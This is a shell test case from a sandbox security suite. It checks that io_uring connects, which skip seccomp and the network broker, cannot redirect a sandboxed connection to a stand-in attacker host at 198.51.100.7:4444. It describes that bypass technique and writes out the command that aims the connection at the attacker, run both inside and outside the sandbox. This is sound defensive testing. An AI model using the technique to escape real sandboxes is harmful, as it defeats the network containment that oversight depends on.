# attack: net/broker-io-uring
# boundary: network
# profile: agent-net
# modes: root rootless
# requires: probe-slot net
# seeds: 000-network
# what: io_uring, whose operations never pass through the seccomp program,
#   hence not through the broker: under a test copy of agent-net that
#   allows @io-uring (`wardc diff` shows that and nothing else), a
#   connection to the allowed mirror is disconnected by an io_uring
#   connect (AF_UNSPEC) and aimed at the attacker (198.51.100.7:4444) by
#   another; then a socket io_uring makes itself is aimed there too
# expect: rootless, ward refuses the policy before anything runs: the
#   broker alone cannot hold an allow-list next to io_uring, and the
#   cgroup programs need root; as root the programs, attached to the
#   broker's cgroup, refuse the re-aimed connect (EPERM) and io_uring's
#   own socket is one of the sandbox's namespace (ENETUNREACH); the
#   attacker's host sees nothing
# control: outside, the same program reaches the attacker (its host logs
#   the connection)
# if it fails: compiler/codegen/net_rules.c (WARD_REQ_NET_BPF for
#   io_uring), launcher/core/net.c (the refusal; the programs on the
#   broker's cgroup)

attack() {
	local seen base
	derive_policy agent-net-uring agent-net \
		-e 's/, @io-uring//' \
		-e 's/^\(    errno EPERM @privileged\)/    allow @io-uring;\n\1/' || {
		fail "the test policy does not compile"
		return
	}
	base=$(base_src agent-net)
	"$WARDC" diff -I "$STDLIB" "$base" \
		"$T/pol/src/agent-net-uring.ward" >"$CASE_T/diff" 2>&1
	check "the test policy allows io_uring more, and nothing else" bash -c \
		'grep -q "io_uring_setup" "$1" && ! grep -v io_uring "$1" | grep -q "^ *[-+~] "' \
		_ "$CASE_T/diff"
	net_note
	sbx -p agent-net-uring -- /input/brk iouring "$ADDR_MIRROR" 443 "$ADDR_ATTACKER" 4444
	net_sync
	seen=$(net_seen)
	printf '%s\n' "$seen" >"$CASE_T/seen"
	if [ "$MODE" = rootless ]; then
		check "rootless ward refuses it, and says why; $(why)" \
			bash -c '[ "$1" = 125 ] && grep -q "allows io_uring" "$2"' _ "$rc" "$SE"
	else
		check "the re-aimed connect is refused; $(why)" so_has "uring-connect-evil EPERM"
		check "io_uring's own socket reaches nothing; $(why)" \
			so_has "uring-socket-connect-evil ENETUNREACH"
	fi
	check "the attacker's host saw nothing: $(grep -E " 4444( |$)" "$CASE_T/seen" | head -3)" \
		not grep -qE " 4444( |$)" "$CASE_T/seen"
	net_note
	outside -- "$IN/brk" iouring "$ADDR_MIRROR" 443 "$ADDR_ATTACKER" 4444
	net_sync
	seen=$(net_seen)
	printf '%s\n' "$seen" >"$CASE_T/seen"
	control "outside, io_uring re-aims the socket; $(cwhy)" co_has "uring-connect-evil ok"
	control "outside, the attacker's host logs it" \
		grep -q "^net: conn 4444 " "$CASE_T/seen"
}
